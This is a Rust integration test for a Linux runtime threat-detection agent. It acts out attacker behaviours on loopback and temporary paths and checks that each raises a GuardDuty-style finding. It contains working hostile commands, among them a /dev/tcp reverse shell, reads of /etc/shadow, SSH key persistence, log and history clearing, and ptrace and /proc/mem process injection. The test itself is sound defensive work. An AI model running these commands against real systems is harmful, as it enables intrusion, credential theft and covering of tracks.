//! The default pack on the real kernel: one agent, many real behaviours
//! (run as root, on loopback and temporary paths only), each of which must
//! come out as its GuardDuty-style finding naming the right process.

use std::io::{BufRead, BufReader, Write};
use std::net::{TcpListener, UdpSocket};
use std::path::Path;
use std::process::{Child, Command, Stdio};
use std::sync::mpsc::{Receiver, channel};
use std::time::{Duration, Instant};

use harrier_tests::{harrier_bin, privileged};
use serde_json::Value;

fn lines(stream: impl std::io::Read + Send + 'static) -> Receiver<String> {
    let (tx, rx) = channel();
    std::thread::spawn(move || {
        for line in BufReader::new(stream).lines().map_while(Result::ok) {
            if tx.send(line).is_err() {
                break;
            }
        }
    });
    rx
}

fn start_agent(socket: &Path, config: &Path) -> (Child, Receiver<String>) {
    let mut child = Command::new(harrier_bin())
        .args([
            "run",
            "--admin-socket",
            socket.to_str().unwrap(),
            "--config",
            config.to_str().unwrap(),
        ])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("start harrier");
    let stdout = lines(child.stdout.take().unwrap());
    let stderr = lines(child.stderr.take().unwrap());
    let deadline = Instant::now() + Duration::from_secs(60);
    loop {
        let left = deadline
            .checked_duration_since(Instant::now())
            .expect("agent not ready within 60 s");
        if stderr
            .recv_timeout(left)
            .expect("agent exited before ready")
            .contains("ready")
        {
            break;
        }
    }
    std::thread::spawn(move || while stderr.recv().is_ok() {});
    (child, stdout)
}

fn sh(script: &str) -> u32 {
    let mut child = Command::new("/bin/sh")
        .args(["-c", script])
        .spawn()
        .unwrap();
    let pid = child.id();
    child.wait().unwrap();
    pid
}

fn python(code: &str) -> u32 {
    let mut child = Command::new("python3").args(["-c", code]).spawn().unwrap();
    let pid = child.id();
    child.wait().unwrap();
    pid
}

fn run(path: &Path, args: &[&str]) -> u32 {
    let mut child = Command::new(path).args(args).spawn().unwrap();
    let pid = child.id();
    child.wait().unwrap();
    pid
}

/// A DNS query for `name` sent to a loopback port 53 (nothing listens).
fn dns_query(name: &str) -> u32 {
    let mut packet = vec![0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in name.split('.') {
        packet.push(label.len() as u8);
        packet.extend_from_slice(label.as_bytes());
    }
    packet.extend_from_slice(&[0, 0, 1, 0, 1]);
    let code = format!(
        "import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(bytes({packet:?}), ('127.0.0.1', 53))"
    );
    python(&code)
}

#[test]
fn real_behaviours_raise_their_findings() {
    if !privileged("real_behaviours_raise_their_findings") {
        return;
    }
    // On the root file system (not a tmpfs), so a hard link to /etc works.
    let tmp = tempfile::tempdir_in("/var/tmp").unwrap();
    let dir = tmp.path();
    // A binary the operator declared malicious by its SHA-256.
    let malware = dir.join("implant");
    let mut bytes = std::fs::read("/bin/true").unwrap();
    bytes.extend_from_slice(format!("harrier-test-{}", std::process::id()).as_bytes());
    std::fs::write(&malware, &bytes).unwrap();
    std::fs::set_permissions(
        &malware,
        std::os::unix::fs::PermissionsExt::from_mode(0o755),
    )
    .unwrap();
    let sha = {
        use sha2::Digest;
        hex::encode(sha2::Sha256::digest(&bytes))
    };
    let config = dir.join("harrier.toml");
    std::fs::write(
        &config,
        format!("[plugins.config.execution]\nextra_sha256 = [\"{sha}\"]\n"),
    )
    .unwrap();
    let (mut agent, stdout) = start_agent(&dir.join("admin.sock"), &config);
    let mut expected: Vec<(&str, u32)> = Vec::new();
    expected.push((
        "Execution:Runtime/MaliciousFileExecuted",
        run(&malware, &[]),
    ));

    // Execution: a tool by name, a program under /dev/shm, a shell from a web server.
    let nmap = dir.join("nmap");
    std::fs::copy("/bin/true", &nmap).unwrap();
    expected.push((
        "Execution:Runtime/SuspiciousTool",
        run(&nmap, &["-sS", "127.0.0.1"]),
    ));
    let shm = std::path::PathBuf::from(format!("/dev/shm/harrier-test-{}", std::process::id()));
    std::fs::copy("/bin/true", &shm).unwrap();
    expected.push(("Execution:Runtime/ExecutionFromDevShm", run(&shm, &[])));
    let _ = std::fs::remove_file(&shm);
    let nginx = dir.join("nginx");
    std::fs::copy("/bin/bash", &nginx).unwrap();
    let mut web = Command::new(&nginx)
        .args(["-c", "/bin/sh -c true; sleep 0.2"])
        .spawn()
        .unwrap();
    web.wait().unwrap();
    expected.push(("Execution:Runtime/SuspiciousShellCreated", 0));

    // A reverse shell to a loopback listener that hangs up at once.
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        if let Ok((mut stream, _)) = listener.accept() {
            let _ = stream.write_all(b"exit\n");
        }
    });
    let reverse = sh(&format!(
        "bash -c 'bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1' 2>/dev/null"
    ));
    expected.push(("Execution:Runtime/ReverseShell", 0));
    let _ = reverse;

    // Commands of discovery, persistence and defense evasion.
    let suid_dir = dir.join("find-here");
    std::fs::create_dir(&suid_dir).unwrap();
    let find = Command::new("find")
        .arg(&suid_dir)
        .args(["-perm", "-4000"])
        .status();
    assert!(find.unwrap().success());
    expected.push(("Discovery:Runtime/SuspiciousCommand", 0));
    let ssh = dir.join(".ssh");
    std::fs::create_dir(&ssh).unwrap();
    expected.push((
        "Persistence:Runtime/SuspiciousCommand",
        sh(&format!(
            "echo 'ssh-ed25519 AAAA test' >> {}/authorized_keys",
            ssh.display()
        )),
    ));
    let stamp = dir.join("stamped");
    std::fs::write(&stamp, b"x").unwrap();
    let touch = Command::new("touch")
        .args(["-r", "/bin/ls"])
        .arg(&stamp)
        .status()
        .unwrap();
    assert!(touch.success());
    expected.push(("DefenseEvasion:Runtime/SuspiciousCommand", 0));

    // Files: credentials, symlinks over them, logs, bulk removal.
    expected.push((
        "CredentialAccess:Runtime/SensitiveFileRead",
        python("open('/etc/shadow').read()"),
    ));
    let link = dir.join("shadow-link");
    let ln = Command::new("ln")
        .arg("-s")
        .arg("/etc/shadow")
        .arg(&link)
        .status()
        .unwrap();
    assert!(ln.success());
    expected.push(("CredentialAccess:Runtime/SymlinkOverSensitiveFile", 0));
    let log = std::path::PathBuf::from(format!("/var/log/harrier-test-{}.log", std::process::id()));
    std::fs::write(&log, b"line\n").unwrap();
    let truncate = Command::new("truncate")
        .args(["-s", "0"])
        .arg(&log)
        .status()
        .unwrap();
    assert!(truncate.success());
    let _ = std::fs::remove_file(&log);
    expected.push(("DefenseEvasion:Runtime/LogFileCleared", 0));
    let hard = dir.join("shadow-hardlink");
    assert!(
        Command::new("ln")
            .arg("/etc/shadow")
            .arg(&hard)
            .status()
            .unwrap()
            .success()
    );
    expected.push(("CredentialAccess:Runtime/HardlinkOverSensitiveFile", 0));
    let history = dir.join(".bash_history");
    std::fs::write(&history, b"ls\n").unwrap();
    assert!(
        Command::new("truncate")
            .args(["-s", "0"])
            .arg(&history)
            .status()
            .unwrap()
            .success()
    );
    expected.push(("DefenseEvasion:Runtime/ShellHistoryCleared", 0));
    let keys = Command::new("grep")
        .args(["-r", "-l", "BEGIN RSA PRIVATE KEY"])
        .arg(&suid_dir)
        .status();
    let _ = keys.unwrap();
    expected.push(("CredentialAccess:Runtime/PrivateKeySearch", 0));
    let doomed = dir.join("doomed");
    std::fs::write(&doomed, vec![b'x'; 4096]).unwrap();
    let shred = Command::new("shred")
        .arg("-u")
        .arg(&doomed)
        .status()
        .unwrap();
    assert!(shred.success());
    expected.push(("Impact:Runtime/BulkDataRemoval", 0));

    // Privilege escalation and injection.
    let agent_file = dir.join("release_agent");
    expected.push((
        "PrivilegeEscalation:Runtime/CGroupsReleaseAgentModified",
        sh(&format!("echo /tmp/payload > {}", agent_file.display())),
    ));
    expected.push((
        "PrivilegeEscalation:Runtime/UserfaultfdUsage",
        python("import ctypes; ctypes.CDLL(None, use_errno=True).syscall(323, 0)"),
    ));
    expected.push((
        "DefenseEvasion:Runtime/PtraceAntiDebugging",
        python("import ctypes; ctypes.CDLL(None).ptrace(0, 0, 0, 0)"),
    ));
    // Injection into a sleeping victim: a ptrace poke and a
    // process_vm_writev, each writing back the word it just read from a
    // writable mapping (so the victim is unchanged), and a write through
    // /proc/<pid>/mem.
    let mut victim = Command::new("sleep").arg("10").spawn().unwrap();
    let target = victim.id();
    std::thread::sleep(Duration::from_millis(100));
    let writable = format!(
        "addr = next(int(l.split('-')[0], 16) for l in open('/proc/{target}/maps') if l.split()[1].startswith('rw'))\n"
    );
    let poke = format!(
        "import ctypes, os\n{writable}libc = ctypes.CDLL(None); libc.ptrace.restype = ctypes.c_long\nlibc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]\nlibc.ptrace(16, {target}, None, None); os.waitpid({target}, 0)\nword = libc.ptrace(2, {target}, addr, None)\nlibc.ptrace(5, {target}, addr, ctypes.c_void_p(word & 0xffffffffffffffff))\nlibc.ptrace(17, {target}, None, None)"
    );
    expected.push((
        "DefenseEvasion:Runtime/ProcessInjection.Ptrace",
        python(&poke),
    ));
    let vm_write = format!(
        "import ctypes\n{writable}class Iov(ctypes.Structure): _fields_ = [('base', ctypes.c_void_p), ('len', ctypes.c_size_t)]\nbuf = ctypes.create_string_buffer(8)\nlocal = Iov(ctypes.cast(buf, ctypes.c_void_p), 8); remote = Iov(addr, 8)\nlibc = ctypes.CDLL(None)\nlibc.process_vm_readv({target}, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)\nassert libc.process_vm_writev({target}, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) == 8"
    );
    expected.push((
        "DefenseEvasion:Runtime/ProcessInjection.VirtualMemoryWrite",
        python(&vm_write),
    ));
    let proc_mem = format!(
        "f = open('/proc/{target}/mem', 'wb', buffering=0)\ntry: f.write(b'x')\nexcept OSError: pass"
    );
    expected.push((
        "DefenseEvasion:Runtime/ProcessInjection.Proc",
        python(&proc_mem),
    ));
    let _ = victim.kill();
    let _ = victim.wait();
    expected.push((
        "DefenseEvasion:Runtime/FilelessExecution",
        python(
            "import os; fd = os.memfd_create('x'); os.write(fd, open('/bin/true','rb').read()); os.execv('/proc/self/fd/%d' % fd, ['x'])",
        ),
    ));

    // A library written a moment ago, then loaded.
    let lib = dir.join("libfresh.so");
    std::fs::copy("/usr/lib/x86_64-linux-gnu/libz.so.1", &lib).unwrap();
    expected.push((
        "Execution:Runtime/NewLibraryLoaded",
        python(&format!("import ctypes; ctypes.CDLL('{}')", lib.display())),
    ));
    // A raw packet socket.
    expected.push((
        "CredentialAccess:Runtime/PacketSocketCreated",
        python("import socket; socket.socket(17, socket.SOCK_RAW, 0).close()"),
    ));
    // A system user's interactive shell.
    let daemon_shell = Command::new("setpriv")
        .args(["--reuid=1", "--regid=1", "--clear-groups", "bash", "-i"])
        .stdin(Stdio::null())
        .stderr(Stdio::null())
        .status();
    let _ = daemon_shell.unwrap();
    expected.push(("Execution:Runtime/SystemUserInteractiveShell", 0));

    // DNS: a mining pool and GuardDuty's C&C test domain.
    expected.push((
        "CryptoCurrency:Runtime/BitcoinTool.B!DNS",
        dns_query("pool.minexmr.com"),
    ));
    expected.push((
        "Backdoor:Runtime/C&CActivity.B!DNS",
        dns_query("guarddutyc2activityb.com"),
    ));

    // Collect for a while, then check every expectation at once.
    let deadline = Instant::now() + Duration::from_secs(8);
    let mut findings: Vec<Value> = Vec::new();
    while let Some(left) = deadline.checked_duration_since(Instant::now()) {
        if let Ok(line) = stdout.recv_timeout(left) {
            findings.push(serde_json::from_str(&line).unwrap());
        }
    }
    // SAFETY: kill on our own child's pid.
    unsafe { libc::kill(agent.id() as i32, libc::SIGINT) };
    assert!(agent.wait().unwrap().success());
    let _ = UdpSocket::bind("127.0.0.1:0");

    let missing: Vec<String> = expected
        .iter()
        .filter(|(kind, pid)| {
            !findings
                .iter()
                .any(|f| f["type"] == *kind && (*pid == 0 || f["process"]["pid"] == *pid))
        })
        .map(|(kind, pid)| format!("{kind} (pid {pid})"))
        .collect();
    let seen: Vec<String> = findings
        .iter()
        .map(|f| {
            format!(
                "{} pid {} {}",
                f["type"], f["process"]["pid"], f["process"]["exe"]
            )
        })
        .collect();
    assert!(
        missing.is_empty(),
        "missing findings: {missing:#?}\nseen:\n{}",
        seen.join("\n")
    );
}
